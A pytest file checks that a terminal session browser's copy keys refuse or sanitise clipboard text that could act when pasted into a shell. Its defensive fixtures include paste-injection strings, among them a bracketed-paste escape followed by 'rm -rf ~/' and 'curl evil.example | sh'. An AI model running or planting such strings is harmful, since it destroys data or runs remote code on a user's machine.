"""``y`` and ``Y`` put on the clipboard only what is safe to paste into a shell.

``y`` copied the raw session id with OSC 52: an id holding ``ESC[201~`` and a newline ends
a bracketed paste and runs the rest as a command when pasted. An id is now copied exactly
or not at all (a notice shows its cleaned form). ``Y`` copies the app's cleaned rendering of
a message: no ESC, C0 (but the line breaks of the text), C1, bidi or invisible character.
"""

from __future__ import annotations

import json
import sqlite3
import unicodedata
from pathlib import Path

import pytest

from tests.adversarial import damage as d
from tests.support import AGENT_RUN_CHILD
from tests.ui.helpers import frozen_clock, settle
from tests.ui.usage_helpers import usage_shown
from zett_browser.app import ZettBrowserApp, make_app
from zett_browser.screens.usage_details import UsageDetails
from zett_browser.widgets.rawlog import RawLogView
from zett_browser.widgets.session_tree import SessionTree

#: Ids pasting would act on: end a bracketed paste and run a command; OSC 52; a bare newline
#: (no bracketed paste); a tab (completion); bidi and zero-width characters (look like another id).
BAD_IDS = {
    "bracketed_paste_end": "abc\x1b[201~\nrm -rf ~/\n",
    "osc52": "\x1b]52;c;UFdORUQ=\x07" + AGENT_RUN_CHILD,
    "c1_csi": "id\x9b201~x",
    "newline": "id\ncurl evil.example | sh",
    "tab": "id\tx",
    "bidi": "id\u202edi",
    "zero_width": "id\u200bx",
    "hangul_filler": "id\u3164x",
}
#: A message body with everything a paste could act on.
CONTENT = "one\x1b[201~\nrm -rf ~/\n\x9b201~ \x85nel \u202eevil\u202c \u2066iso\u2069 \x00nul \x07bel \rcr \u200bzw end"


def _rename(path: Path, new_id: str) -> None:
    db = sqlite3.connect(path, isolation_level=None)
    try:
        db.execute("PRAGMA journal_mode=DELETE")
        db.execute("update agent_sessions set id = ? where id = ?", (new_id, AGENT_RUN_CHILD))
        for table in ("raw_messages", "session_snapshots"):
            db.execute(f"update {table} set session_id = ? where session_id = ?", (new_id, AGENT_RUN_CHILD))
    finally:
        db.close()


def notices(app: ZettBrowserApp) -> list[str]:
    return [note.message for note in app._notifications]


@pytest.mark.parametrize("case", sorted(BAD_IDS))
async def test_y_refuses_an_id_that_is_unsafe_to_paste(tmp_path: Path, case: str) -> None:
    store = d.copy_fixture("agent_run", tmp_path)
    _rename(store, BAD_IDS[case])
    app = make_app(str(store), session=BAD_IDS[case], clock=frozen_clock, index=False)
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(pilot)
        assert app.screen.query_one(RawLogView).records  # the session is open
        app.screen.query_one(RawLogView).focus()
        await pilot.press("y")
        await settle(pilot)
        assert app.clipboard == ""
        said = notices(app)
        assert any(note.startswith("Not copied: the session id") for note in said), said
        assert not any("\x1b" in note or "\n" in note for note in said)


async def test_y_still_copies_a_plain_id_exactly(tmp_path: Path) -> None:
    store = d.copy_fixture("agent_run", tmp_path)
    app = make_app(str(store), session=AGENT_RUN_CHILD, clock=frozen_clock, index=False)
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(pilot)
        await pilot.press("y")
        await settle(pilot)
        assert app.clipboard == AGENT_RUN_CHILD
        assert f"Copied the session id {AGENT_RUN_CHILD}" in notices(app)


async def test_y_in_the_usage_details_refuses_it_too(tmp_path: Path) -> None:
    store = d.copy_fixture("agent_run", tmp_path)
    bad = BAD_IDS["bracketed_paste_end"]
    _rename(store, bad)
    app = make_app(
        str(store), session=bad, clock=frozen_clock, index=True, index_dir=tmp_path / "index", poll_interval=0
    )
    async with app.run_test(size=(160, 60)) as pilot:
        await usage_shown(pilot)
        tree = app.screen.query_one(SessionTree)
        tree.focus()
        await pilot.press("u")
        await settle(pilot)
        assert isinstance(app.screen, UsageDetails) and app.screen.node.session_id == bad
        await pilot.press("y")
        await settle(pilot)
        assert app.clipboard == ""
        assert any(note.startswith("Not copied: the session id") for note in notices(app))


def _unsafe(text: str) -> list[str]:
    """Characters of ``text`` a paste could act on (all but the text's own line breaks)."""
    return sorted(
        {
            char
            for char in text
            if (char != "\n" and (ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0))
            or unicodedata.category(char) in ("Cf", "Zl", "Zp", "Cs")
            and char not in "\u200c\u200d"
        }
    )


async def test_Y_copies_only_the_cleaned_text(tmp_path: Path) -> None:  # noqa: N802 - the key's name
    store = d.copy_fixture("agent_run", tmp_path)
    db = sqlite3.connect(store, isolation_level=None)
    try:
        db.execute("PRAGMA journal_mode=DELETE")
        raw = db.execute(
            "select message_json from raw_messages where session_id = ? and sequence = 2", (d.AGENT_RUN_ROOT,)
        ).fetchone()[0]
        envelope = json.loads(raw)
        envelope[0]["data"]["content"] = CONTENT
        db.execute(
            "update raw_messages set message_json = ? where session_id = ? and sequence = 2",
            (json.dumps(envelope), d.AGENT_RUN_ROOT),
        )
    finally:
        db.close()
    app = make_app(str(store), session=d.AGENT_RUN_ROOT, seq=2, clock=frozen_clock, index=False)
    async with app.run_test(size=(160, 45)) as pilot:
        await settle(pilot)
        view = app.screen.query_one(RawLogView)
        view.focus()
        assert view.current is not None and view.current.sequence == 2
        await pilot.press("Y")
        await settle(pilot)
        copied = app.clipboard
        await pilot.press("enter")  # the detail view's Y: every part of the message
        await settle(pilot)
        await pilot.press("Y")
        await settle(pilot)
        detail_copy = app.clipboard
    for text in (copied, detail_copy):
        assert "one␛[201~" in text and "\\u009b201~" in text and "\\u202eevil" in text
        assert "\x1b[201~" not in text and "\x1b" not in text
        assert _unsafe(text) == []
